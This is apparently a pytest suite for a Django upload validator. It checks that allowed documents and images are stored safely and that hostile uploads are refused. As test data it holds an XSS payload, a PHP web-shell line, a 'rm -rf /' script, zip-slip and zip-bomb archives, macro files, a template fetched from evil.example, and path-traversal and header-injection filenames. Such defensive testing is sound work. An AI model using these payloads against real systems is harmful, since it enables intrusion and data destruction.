"""What comes in, and what is turned away with words that help."""

import hashlib
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import UploadedFile
from django.core.management import call_command
from django.utils import timezone
from PIL import Image

from accounts.actor import Actor, LinkScope
from coordination.activity.models import Activity
from coordination.common.errors import DomainError
from coordination.files.actions import FileTooLarge, check_waiting, keep, sweep_places
from coordination.files.models import StoredFile
from tests.files import samples
from tests.files.samples import upload

NOW = datetime(2026, 11, 22, 14, 0, tzinfo=UTC)
ANA = Actor(user_id=7, person_id=8, organization_ids=(9,))
pytestmark = pytest.mark.django_db

HONEST = [
    ("Acta.PDF", samples.PDF, "pdf"),
    ("plan.docx", samples.office(), "docx"),
    ("matriz.xlsx", samples.office("xl/workbook.xml", samples.EXCEL), "xlsx"),
    ("láminas.pptx", samples.office("ppt/presentation.xml", samples.SLIDES), "pptx"),
    ("oficio.odt", samples.open_document(), "odt"),
    ("hoja.ods", samples.open_document("application/vnd.oasis.opendocument.spreadsheet"), "ods"),
    ("foto.jpg", samples.picture("JPEG"), "jpeg"),
    ("foto.png", samples.picture("PNG"), "png"),
    ("foto.webp", samples.picture("WEBP"), "webp"),
    ("lista.csv", "nombre;cantón\nÁngela;Tulcán\n".encode(), "csv"),
    ("nota.txt", "Año de la niñez".encode("cp1252"), "txt"),
]


@pytest.mark.parametrize(("name", "content", "kind"), HONEST, ids=[row[2] for row in HONEST])
def test_keep_takes_each_kind_that_is_allowed(name: str, content: bytes, kind: str) -> None:
    stored = keep(upload=upload(name, content, "text/html"), by=ANA, now=NOW)
    assert (stored.type, stored.state, stored.name) == (kind, "clean", name)
    on_disk = Path(stored.content.path)
    assert on_disk.is_relative_to(settings.MEDIA_ROOT) and on_disk.suffix == ""
    assert stored.name.split(".")[0] not in str(on_disk)
    assert on_disk.stat().st_mode & 0o777 == 0o600
    assert stored.sha256 == hashlib.sha256(on_disk.read_bytes()).hexdigest()
    assert stored.size == on_disk.stat().st_size
    assert stored.is_unchecked, "no scanner is configured, and the row says so"
    assert (stored.uploaded_by_user_id, stored.uploaded_by_person_id, stored.uploaded_by_organization_id) == (
        7,
        8,
        9,
    )


HOSTILE = {
    "html as pdf": ("acta.pdf", b"<!doctype html><script>alert(1)</script>"),
    "text as pdf": ("acta.pdf", b"solo texto"),
    "pdf as docx": ("acta.docx", samples.PDF),
    "docx as pdf": ("acta.pdf", samples.office()),
    "exe as docx": ("plan.docx", b"MZ\x90\x00\x03" + b"\0" * 200),
    "exe": ("plan.exe", b"MZ\x90\x00\x03" + b"\0" * 200),
    "no ending": ("plan", samples.PDF),
    "two endings": ("plan.pdf.exe", samples.PDF),
    "svg": ("dibujo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg as png": ("dibujo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg as txt": ("dibujo.txt", b'\n <SVG onload="alert(1)"/>'),
    "php as csv": ("lista.csv", b"a;b\n<?php system($_GET[0]); ?>"),
    "shell as txt": ("nota.txt", b"#!/bin/sh\nrm -rf /\n"),
    "binary as txt": ("nota.txt", bytes(range(256))),
    "pdf and zip in one": ("acta.pdf", samples.PDF + samples.archive({"a.txt": b"a"}) + b"%%EOF\n"),
    "pdf with zip behind": ("acta.pdf", samples.PDF + samples.archive({"a.txt": b"a"})),
    "pdf with html in its head": ("acta.pdf", b"%PDF-1.7\n%<html><script>alert(1)</script>\n" + samples.PDF),
    "pdf with html behind": ("acta.pdf", samples.PDF + b"<script>alert(1)</script>"),
    "pdf with rar inside": ("acta.pdf", samples.PDF[:20] + b"Rar!\x1a\x07\x00" + samples.PDF[20:]),
    "pdf not at its beginning": ("acta.pdf", b"\n\n" + samples.PDF),
    "pdf with a program": ("acta.pdf", samples.PDF.replace(b"/Type", b"/S/JavaScript/Type")),
    "pdf cut off": ("acta.pdf", samples.PDF[:40]),
    "jpeg with zip behind": ("foto.jpg", samples.picture() + samples.archive({"a.txt": b"a"})),
    "jpeg as png": ("foto.png", samples.picture("JPEG")),
    "png cut off": ("foto.png", samples.picture("PNG")[:60]),
    "png of 100 megapixels": ("foto.png", samples.huge_png()),
    "plain zip": ("todo.docx", samples.archive({"a.txt": b"a"})),
    "zip": ("todo.zip", samples.archive({"a.txt": b"a"})),
    "macro": ("plan.docx", samples.office(word__vbaProject_bin=b"x")),
    "macro elsewhere": (
        "plan.xlsx",
        samples.office("xl/workbook.xml", samples.EXCEL, xl__macrosheets__sheet1_xml=b"x"),
    ),
    "macro by its type": (
        "plan.docx",
        samples.office(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macro in odt": ("oficio.odt", samples.open_document(Basic__Standard__Module1_xml=b"x")),
    "program inside": ("plan.docx", samples.office(word__embeddings__tool_exe=b"MZ")),
    "program by another name": ("plan.docx", samples.office(word__media__image1_png=b"MZ\x90\x00")),
    "slip": ("plan.docx", samples.archive({"../../etc/cron.d/x": b"x", "word/document.xml": b"<w/>"})),
    "two kinds in one": ("plan.docx", samples.office(xl__workbook_xml=b"<w/>")),
    "bomb": ("plan.docx", samples.office(word__media__a_bin=b"\0" * 30_000_000)),
    "too many parts": ("plan.docx", samples.archive({f"word/{n}": b"" for n in range(2001)})),
    "bomb that lies": ("plan.docx", samples.lying_zip()),
    "html behind a docx": (
        "plan.docx",
        samples.archive({"word/document.xml": b"<w/>"}, b"<script>alert(1)</script>"),
    ),
    "entities": ("plan.docx", samples.office(word__styles_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a/>')),
    "fetched template": (
        "plan.docx",
        samples.office(
            word___rels__settings_xml_rels=b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        ).replace(b"word/.rels", b"word/_rels"),
    ),
    "old office": ("plan.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "empty": ("plan.pdf", b""),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_keep_refuses_and_leaves_nothing(case: str) -> None:
    name, content = HOSTILE[case]
    before = set(Path(settings.MEDIA_ROOT).rglob("*"))
    with pytest.raises(DomainError) as refused:
        keep(upload=upload(name, content, "application/pdf"), by=ANA, now=NOW)
    assert refused.value.field == "file"
    assert len(str(refused.value.message)) > 20
    assert not StoredFile.objects.exists()
    assert {path for path in set(Path(settings.MEDIA_ROOT).rglob("*")) - before if path.is_file()} == set()


def test_keep_refuses_21_megabytes_before_it_looks_inside() -> None:
    with pytest.raises(FileTooLarge) as refused:
        keep(upload=upload("a.pdf", samples.PDF + b"\0" * 21 * 1024 * 1024), by=ANA, now=NOW)
    assert "20" in str(refused.value.message)
    stripped = UploadedFile(io.BytesIO(), "a.pdf", "application/pdf", 12_000_000_000)
    with pytest.raises(FileTooLarge):
        keep(upload=stripped, by=ANA, now=NOW)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_keep_draws_pictures_without_place_or_camera_and_upright(form: str) -> None:
    raw = samples.picture(form, place=True, turned=True)
    assert b"CAMERA OF SOMEBODY" in raw
    stored = keep(upload=upload(f"foto.{form.lower()}", raw), by=ANA, now=NOW)
    kept = Path(stored.content.path).read_bytes()
    assert b"CAMERA" not in kept and b"SECRET" not in kept and b"Exif" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert dict(image.getexif()) == {}
        assert image.size == (20, 40)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\ana\\acta.pdf", "acta.pdf"),
        ("acta\r\nSet-Cookie: a=b\n.pdf", "acta Set-Cookie a=b.pdf"),
        ("acta\u202efdp.exe.pdf", "actafdp.exe.pdf"),
        ("acta\0\x1b[31m.pdf", "acta[31m.pdf"),
        ('"<b>acta</b>".pdf', "b.pdf"),
        ("  .pdf", "document.pdf"),
        ("a" * 400 + ".pdf", "a" * 146 + ".pdf"),
        ("Convocatoria niñez año 2026.pdf", "Convocatoria niñez año 2026.pdf"),
    ],
)
def test_keep_cleans_the_name(given: str, kept: str) -> None:
    raw = upload("x.pdf", samples.PDF)
    raw._name = given  # past Django's own cleaning: ours stands alone
    name = keep(upload=raw, by=ANA, now=NOW).name
    assert len(name) <= 150
    assert name in (kept, kept.replace("document", "documento"))


def test_keep_says_whose_link_it_was() -> None:
    by_link = Actor(link=LinkScope("invitation", 3, 44))
    assert keep(upload=upload("a.pdf", samples.PDF), by=by_link, now=NOW).uploaded_by_organization_id == 44


@pytest.fixture
def scanner(tmp_path: Path, settings) -> Path:  # type: ignore[no-untyped-def]
    """A scanner that knows one virus; it answers as its file says."""
    program = tmp_path / "scanner with space.sh"
    program.write_text('#!/bin/sh\ngrep -q EICAR-STANDARD "$1" && exit 1\nexit 0\n')
    program.chmod(0o700)
    settings.SCANNER = f"'{program}'"
    return program


def test_the_scanner_lets_through_what_is_clean_and_keeps_out_what_is_not(scanner: Path) -> None:
    stored = keep(upload=upload("a.txt", b"hola"), by=ANA, now=NOW)
    assert (stored.state, stored.scanned_at, stored.is_unchecked) == ("clean", NOW, False)
    with pytest.raises(DomainError):
        keep(upload=upload("b.txt", b"X5O!P%@AP EICAR-STANDARD-ANTIVIRUS-TEST-FILE"), by=ANA, now=NOW)
    assert StoredFile.objects.count() == 1


@pytest.mark.parametrize("answer", ["exit 2", "sleep 5", None])
def test_without_an_answer_of_the_scanner_a_file_waits(scanner: Path, settings, answer: str | None) -> None:  # type: ignore[no-untyped-def]
    settings.SCANNER_SECONDS = 0.3
    if answer is None:
        scanner.rename(scanner.with_name("gone"))
    else:
        scanner.write_text(f"#!/bin/sh\n{answer}\n")
    stored = keep(upload=upload("a.txt", b"EICAR-STANDARD"), by=ANA, now=NOW)
    assert stored.is_waiting and not stored.may_go_out
    assert check_waiting(file_id=stored.pk, now=NOW).is_waiting
    scanner.with_name("gone").write_text("") if answer is None else None
    scanner.write_text('#!/bin/sh\ngrep -q EICAR-STANDARD "$1" && exit 1\nexit 0\n')
    scanner.chmod(0o700)
    settings.SCANNER_SECONDS = 5
    refused = check_waiting(file_id=stored.pk, now=NOW)
    assert (refused.state, bool(refused.content), refused.sha256) == ("refused", False, stored.sha256)


def test_places_nobody_names_are_cleared_after_a_day() -> None:
    stored = keep(upload=upload("a.txt", b"hola"), by=ANA, now=NOW)
    place = Path(stored.content.path)
    left = place.with_name("0" * 32)
    left.write_text("left behind")
    other = Path(settings.MEDIA_ROOT) / "readme"
    other.write_text("of somebody else")
    assert sweep_places(now=timezone.now()) == 0
    assert sweep_places(now=timezone.now() + timedelta(days=2)) >= 1
    assert place.exists() and other.exists() and not left.exists()


def test_the_command_checks_what_waits(scanner: Path, capsys: pytest.CaptureFixture[str]) -> None:
    scanner.write_text("#!/bin/sh\nexit 2\n")
    for name in ("a.txt", "b.txt"):
        keep(upload=upload(name, b"EICAR-STANDARD" if name == "b.txt" else b"hola"), by=ANA, now=NOW)
    call_command("check_files")
    assert "clean 0, refused 0, still waiting 2" in capsys.readouterr().out
    scanner.write_text('#!/bin/sh\ngrep -q EICAR-STANDARD "$1" && exit 1\nexit 0\n')
    call_command("check_files")
    assert "clean 1, refused 1, still waiting 0" in capsys.readouterr().out
    assert set(Activity.objects.values_list("kind", flat=True)) == {"file.cleared", "file.refused"}
